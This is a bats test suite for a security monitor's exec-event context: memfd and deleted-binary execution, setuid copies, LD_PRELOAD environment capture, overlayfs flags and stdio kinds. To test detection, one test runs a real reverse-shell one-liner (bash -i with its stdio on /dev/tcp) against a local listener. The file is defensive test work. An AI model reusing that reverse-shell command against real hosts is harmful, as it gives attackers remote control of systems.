#!/usr/bin/env bats
# The exec context of the process module's exec event: exe_flags (memfd,
# deleted, upper, secureexec), stdio (the kind of fds 0-2, a socket's
# family and peer), env (the configured variables) and cwd, each from the
# real act: fileless execution, a reverse shell, LD_PRELOAD, a setuid copy.
# The default pack (scripts/rules/default) rightly alerts on this file's acts: LD_PRELOAD, memfd and deleted images, setuid copies and a reverse shell are its subject (ld-preload-exec, exec-memfd-deleted, reverse-shell).
# (tests/run runs it after the pack's silence watch).
# bats file_tags=pack-alerts

load helpers/common
bats_require_minimum_version 1.5.0

pw_suite process

setup_file() {
	pw_setup_file process
	command -v gcc >/dev/null || return 0
	pw_cc "$BATS_FILE_TMPDIR/exec_from" -O2 "$PW_HOME/tests/fixtures/exec_from.c"
}

need_exec_from() {
	[[ -x $BATS_FILE_TMPDIR/exec_from ]] || skip "needs gcc to build the helper"
}

# The exec event of pid PID whose filename matches the glob GLOB.
exec_of() { # events pid glob
	jq -c --argjson p "$2" --arg g "$3" \
		'select(.type == "exec" and .pid == $p and (.filename | test($g)))' <<<"$1"
}

# bats test_tags=vm-ci,pack-alerts
@test "a program exec'd from memfd_create has exe_flags memfd" {
	need_exec_from
	bin=$(unique_binary)
	"$BATS_FILE_TMPDIR/exec_from" memfd "$bin" </dev/null &
	pid=$!
	wait "$pid"
	ev=$(exec_of "$(pw_events)" "$pid" '^/dev/fd/[0-9]+$')
	assert_field "$ev" '.exe_flags | tojson' '["memfd"]'
	assert_field "$ev" '.args[0]' "$bin"
}

# bats test_tags=pack-alerts
@test "a binary unlinked before its fexecve has exe_flags deleted" {
	need_exec_from
	bin=$(unique_binary)
	"$BATS_FILE_TMPDIR/exec_from" deleted "$bin" &
	pid=$!
	wait "$pid"
	[ ! -e "$bin" ]
	ev=$(exec_of "$(pw_events)" "$pid" '^/dev/fd/[0-9]+$')
	assert_field "$ev" '.exe_flags | tojson' '["deleted"]'
	assert_field "$ev" '.args[0]' "$bin"
}

# bats test_tags=pack-alerts
@test "a setuid-root copy run by nobody has exe_flags secureexec; a plain one none" {
	dir=$(mktemp -d "${TMPDIR:-/tmp}"/pwexecctx.XXXXXX)
	chmod 755 "$dir"
	cp /bin/true "$dir/pwsuid$RANDOM"
	suid=$(echo "$dir"/pwsuid*)
	chmod 4755 "$suid"
	cp /bin/true "$dir/pwplain$RANDOM"
	plain=$(echo "$dir"/pwplain*)
	as_nobody "$suid"
	as_nobody "$plain"
	events=$(pw_events)
	rm -rf "$dir"
	ev=$(jq -c --arg f "$suid" 'select(.type == "exec" and .filename == $f)' <<<"$events")
	assert_field "$ev" '.exe_flags | tojson' '["secureexec"]'
	assert_field "$ev" .uid -eq 65534
	ev=$(jq -c --arg f "$plain" 'select(.type == "exec" and .filename == $f)' <<<"$events")
	assert_field "$ev" '.exe_flags | tojson' '[]'
}

# bats test_tags=pack-alerts
@test "a reverse shell: bash -i with fds 0-2 on a TCP socket to 127.0.0.1:PORT" {
	portfile=$BATS_TEST_TMPDIR/port
	# the listener: says "exit" to the shell that connects, then waits for it to close
	perl -MIO::Socket::INET -e '
		my $s = IO::Socket::INET->new(LocalAddr => "127.0.0.1", LocalPort => 0,
			Listen => 1, ReuseAddr => 1) or die "listen: $!";
		open(my $f, ">", $ARGV[0]) or die; print $f $s->sockport, "\n"; close $f;
		my $c = $s->accept or die; print $c "exit\n"; $c->flush; 1 while <$c>;' "$portfile" &
	listener=$!
	for _ in $(seq 50); do [[ -s $portfile ]] && break; sleep 0.1; done
	port=$(cat "$portfile")
	timeout 10 bash -c "exec bash -i <&3 >&3 2>&3" 3<>"/dev/tcp/127.0.0.1/$port" &
	pid=$!
	wait "$pid" || true
	wait "$listener" || true
	ev=$(jq -c --argjson p "$pid" 'select(.type == "exec" and (.args == ["bash", "-i"]))' <<<"$(pw_events)")
	[ -n "$ev" ]
	for fd in 0 1 2; do
		assert_field "$ev" ".stdio[$fd].fd" -eq "$fd"
		assert_field "$ev" ".stdio[$fd].kind" socket
		assert_field "$ev" ".stdio[$fd].family" AF_INET
		assert_field "$ev" ".stdio[$fd].daddr" 127.0.0.1
		assert_field "$ev" ".stdio[$fd].dport" -eq "$port"
	done
}

@test "stdin from /dev/null and stdout to a pipe: stdio null, pipe" {
	bin=$(unique_binary)
	"$bin" </dev/null 2>"$BATS_TEST_TMPDIR/err" | cat
	ev=$(jq -c --arg f "$bin" 'select(.type == "exec" and .filename == $f)' <<<"$(pw_events)")
	assert_field "$ev" '.stdio | map(.kind) | tojson' '["null","pipe","file"]'
	assert_field "$ev" '.stdio[0].family' null
	assert_field "$ev" '.stdio[1].daddr' null
	assert_field "$ev" '.stdio[2].dport' null
}

@test "LD_PRELOAD and LD_LIBRARY_PATH set: env has their values, the unset LD_AUDIT is absent" {
	bin=$(unique_binary)
	env -u LD_AUDIT LD_PRELOAD=/tmp/x.so LD_LIBRARY_PATH=/opt/pw:/lib "$bin" 2>/dev/null
	ev=$(jq -c --arg f "$bin" 'select(.type == "exec" and .filename == $f)' <<<"$(pw_events)")
	assert_field "$ev" '.env | tojson' '{"LD_PRELOAD":"/tmp/x.so","LD_LIBRARY_PATH":"/opt/pw:/lib"}'
	assert_field "$ev" .env_truncated false
}

@test "a value longer than the record holds is cut and env_truncated is set" {
	bin=$(unique_binary)
	LD_PRELOAD=$(head -c 2000 /dev/zero | tr '\0' p) "$bin" 2>/dev/null
	ev=$(jq -c --arg f "$bin" 'select(.type == "exec" and .filename == $f)' <<<"$(pw_events)")
	assert_field "$ev" .env_truncated true
	assert_field "$ev" '.env.LD_PRELOAD | test("^p+$")' true
	assert_field "$ev" '.env.LD_PRELOAD | length' -lt 2000
}

@test "a name set twice is reported twice (ld.so acts on the last LD_PRELOAD)" {
	need_exec_from
	bin=$(unique_binary)
	"$BATS_FILE_TMPDIR/exec_from" env "$bin" LD_PRELOAD=/tmp/first.so PATH=/bin \
		LD_PRELOAD=/tmp/second.so 2>/dev/null
	events=$(pw_events)
	ev=$(jq -c --arg f "$bin" 'select(.type == "exec" and .filename == $f)' <<<"$events")
	# jq keeps the last of two equal keys: the raw line has both, in order
	assert_field "$ev" .env.LD_PRELOAD /tmp/second.so
	line=$(grep -F "\"filename\":\"$bin\"" <<<"$events")
	[[ $line == *'"LD_PRELOAD":"/tmp/first.so","LD_PRELOAD":"/tmp/second.so"'* ]] ||
		{ echo "got: $line" >&2; false; }
}

@test "a name after 40 KiB of other variables is found (the area is read a piece at a time)" {
	need_exec_from
	bin=$(unique_binary)
	vars=()
	for i in $(seq 1 40); do vars+=("PWBIG_$i=$(head -c 1000 /dev/zero | tr '\0' v)"); done
	"$BATS_FILE_TMPDIR/exec_from" env "$bin" "${vars[@]}" LD_AUDIT=/tmp/audit.so 2>/dev/null
	ev=$(jq -c --arg f "$bin" 'select(.type == "exec" and .filename == $f)' <<<"$(pw_events)")
	assert_field "$ev" '.env | tojson' '{"LD_AUDIT":"/tmp/audit.so"}'
	assert_field "$ev" .env_truncated false
}

@test "a name after more than 512 variables is not looked at, and env_truncated says so" {
	need_exec_from
	bin=$(unique_binary)
	"$BATS_FILE_TMPDIR/exec_from" env "$bin" LD_PRELOAD=/tmp/early.so \
		$(seq -f 'PWV%g=x' 1 520) LD_AUDIT=/tmp/late.so 2>/dev/null
	ev=$(jq -c --arg f "$bin" 'select(.type == "exec" and .filename == $f)' <<<"$(pw_events)")
	assert_field "$ev" '.env | tojson' '{"LD_PRELOAD":"/tmp/early.so"}'
	assert_field "$ev" .env_truncated true
}

@test "a 32-bit image (4-byte envp[] entries): its environment is scanned all the same" {
	need_exec_from
	[[ $(uname -m) == x86_64 ]] || skip "a 32-bit x86 image needs an x86_64 host"
	bin32=$BATS_TEST_TMPDIR/pwexit32
	pw_cc "$bin32" -m32 -nostdlib -static -fno-pie -no-pie "$PW_HOME/tests/fixtures/exit32.c" 2>/dev/null ||
		skip "gcc -m32 cannot build here"
	"$bin32" || skip "this kernel runs no 32-bit programs"
	pw_events >/dev/null	# that exec's event is not the one looked at
	vars=()
	for i in $(seq 1 10); do vars+=("PWBIG_$i=$(head -c 1000 /dev/zero | tr '\0' v)"); done
	"$BATS_FILE_TMPDIR/exec_from" env "$bin32" LD_PRELOAD=/tmp/x32.so "${vars[@]}" LD_AUDIT=/tmp/a32.so
	ev=$(jq -c --arg f "$bin32" 'select(.type == "exec" and .filename == $f)' <<<"$(pw_events)")
	assert_field "$ev" '.env | tojson' '{"LD_PRELOAD":"/tmp/x32.so","LD_AUDIT":"/tmp/a32.so"}'
	assert_field "$ev" .env_truncated false
	# its auxiliary vector has 4-byte entries too: AT_SECURE is 0
	assert_field "$ev" '.exe_flags | tojson' '[]'
}

@test "config set exec_env replaces the names; get prints them" {
	before=$("$PW" config get exec_env)
	run -0 "$PW" config set exec_env PWTEST_A,PWTEST_B
	run -0 "$PW" config get exec_env
	[ "$output" = PWTEST_A,PWTEST_B ]
	bin=$(unique_binary)
	PWTEST_B=b LD_PRELOAD=/tmp/x.so "$bin" 2>/dev/null
	"$PW" config set exec_env "$before"
	ev=$(jq -c --arg f "$bin" 'select(.type == "exec" and .filename == $f)' <<<"$(pw_events)")
	assert_field "$ev" '.env | tojson' '{"PWTEST_B":"b"}'
}

@test "config set exec_env none: no variable is reported" {
	before=$("$PW" config get exec_env)
	run -0 "$PW" config set exec_env none
	run -0 "$PW" config get exec_env
	[ "$output" = none ]
	bin=$(unique_binary)
	LD_PRELOAD=/tmp/x.so "$bin" 2>/dev/null
	"$PW" config set exec_env "$before"
	ev=$(jq -c --arg f "$bin" 'select(.type == "exec" and .filename == $f)' <<<"$(pw_events)")
	assert_field "$ev" '.env | tojson' '{}'
	assert_field "$ev" .env_truncated false
}

@test "config set exec_env with bad input: one stderr line, non-zero, nothing changed" {
	max=$("$PW_LOAD" abi | awk '$1 == "constants" && $2 == "PW_EXEC_ENV_NAMES" { print $3 }')
	namemax=$("$PW_LOAD" abi | awk '$1 == "constants" && $2 == "PW_EXEC_ENV_NAME_MAX" { print $3 }')
	[ -n "$max" ] && [ -n "$namemax" ]
	before=$("$PW" config get exec_env)
	too_many=$(seq -f 'PW%g' 1 $((max + 1)) | paste -sd,)
	too_long=$(head -c "$namemax" /dev/zero | tr '\0' N)
	for bad in "$too_many" 'A=B' 'A B' 'A,,B' ',A' 'A,' '' "$too_long" "$(printf 'A\tB')"; do
		run -1 --separate-stderr "$PW" config set exec_env "$bad"
		assert_one_line_error
		[ "$("$PW" config get exec_env)" = "$before" ]
	done
}

@test "cwd is the working directory of a command run in a temp dir" {
	bin=$(unique_binary)
	dir=$(realpath "$BATS_TEST_TMPDIR")/work\ dir
	mkdir -p "$dir"
	(cd "$dir" && "$bin")
	ev=$(jq -c --arg f "$bin" 'select(.type == "exec" and .filename == $f)' <<<"$(pw_events)")
	assert_field "$ev" .cwd "$dir"
}

# bats test_tags=vm-ci
@test "a binary written into a mounted overlayfs has exe_flags upper; one of the lower layer not" {
	base=$(realpath "$BATS_TEST_TMPDIR")
	mkdir -p "$base"/{lower,upper,work,merged}
	cp /bin/true "$base/lower/pwlower"
	mount -t overlay overlay -o "lowerdir=$base/lower,upperdir=$base/upper,workdir=$base/work" \
		"$base/merged" 2>/dev/null || skip "cannot mount an overlayfs here"
	cp /bin/true "$base/merged/pwupper"
	"$base/merged/pwupper"
	"$base/merged/pwlower"
	events=$(pw_events)
	umount "$base/merged"
	ev=$(jq -c --arg f "$base/merged/pwupper" 'select(.type == "exec" and .filename == $f)' <<<"$events")
	assert_field "$ev" '.exe_flags | tojson' '["upper"]'
	ev=$(jq -c --arg f "$base/merged/pwlower" 'select(.type == "exec" and .filename == $f)' <<<"$events")
	assert_field "$ev" '.exe_flags | tojson' '[]'
}

# bats test_tags=pack-alerts
@test "the text line carries exe, stdio, cwd and env compactly" {
	need_exec_from
	bin=$(unique_binary)
	dir=$(realpath "$BATS_TEST_TMPDIR")
	(cd "$dir" && LD_PRELOAD=/tmp/x.so "$BATS_FILE_TMPDIR/exec_from" memfd "$bin" </dev/null 2>/dev/null | cat)
	line=$("$PW_READ" --drain | grep -F " exec " | grep -F "/dev/fd/" | grep -F "$bin")
	[[ $line == *" exe=memfd stdio=null,pipe,null cwd=$dir LD_PRELOAD=/tmp/x.so parent=/"* ]] || {
		echo "line: $line" >&2
		false
	}
}

@test "the process stats balance with the exec context stage in the chain" {
	/bin/true
	stats_balance process
}
